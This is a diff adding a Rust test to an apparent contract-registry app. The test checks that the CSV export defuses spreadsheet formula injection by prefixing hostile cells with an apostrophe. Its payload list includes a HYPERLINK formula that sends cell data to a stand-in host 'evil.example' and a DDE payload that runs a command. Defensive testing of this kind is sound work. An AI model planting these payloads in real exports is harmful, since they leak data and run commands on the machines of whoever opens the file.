@@ -281,3 +281,62 @@ async fn only_the_registrar_may_export() {
         assert_eq!(error_fields(&problem), vec![field], "{path}");
     }
 }
+
+#[tokio::test]
+async fn text_a_spreadsheet_would_run_as_a_formula_is_exported_inert() {
+    let app = spawn_app().await;
+    let m = market(&app).await;
+    let registrar = sessions::authenticate(app.db(), &m.registrar)
+        .await
+        .expect("registrar");
+    let payloads = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"点击查看\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "=1+1",
+        "正常的项目名称 =1",
+    ];
+    for (i, name) in payloads.iter().enumerate() {
+        let mut body = contract_body(&m, 12_345 + i as i64, 0);
+        body["project_name"] = json!(name);
+        body["seller"]["name"] = json!(format!("={i}+西安交通大学"));
+        let created = json_of(
+            submit(&app, &m.broker, None, &body).await,
+            StatusCode::CREATED,
+        )
+        .await;
+        let id = created["id"].as_str().expect("id").parse().expect("uuid");
+        let on = NaiveDate::from_ymd_opt(2025, 5, 1).expect("date");
+        contracts::register(app.db(), &registrar, id, "01", on)
+            .await
+            .expect("register");
+    }
+    let (status, _, body) = download(
+        &app,
+        "/api/v1/contracts/export?year=2025&format=csv",
+        Some(&m.registrar),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    let rows = csv_rows(&body);
+    let column = |name: &str| rows[0].iter().position(|h| h == name).expect(name);
+    let (project, seller, total) = (
+        column("项目名称"),
+        column("卖方名称"),
+        column("合同成交额（元）"),
+    );
+    let formula = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    for row in &rows[1..] {
+        assert!(!row.iter().any(|cell| formula(cell)), "{row:?}");
+        // The text is all there, behind the apostrophe that keeps it text.
+        let name = row[project].strip_prefix('\'').unwrap_or(&row[project]);
+        assert!(payloads.contains(&name), "{row:?}");
+        assert_eq!(row[project].starts_with('\''), !name.starts_with('正'));
+        assert!(row[seller].starts_with("'="), "{row:?}");
+        // Amounts stay exact numbers.
+        let i = payloads.iter().position(|p| *p == name).expect("payload") as i64;
+        assert_eq!(fen(&row[total]), 12_345 + i);
+    }
+    assert_eq!(rows.len(), 1 + payloads.len());
+}
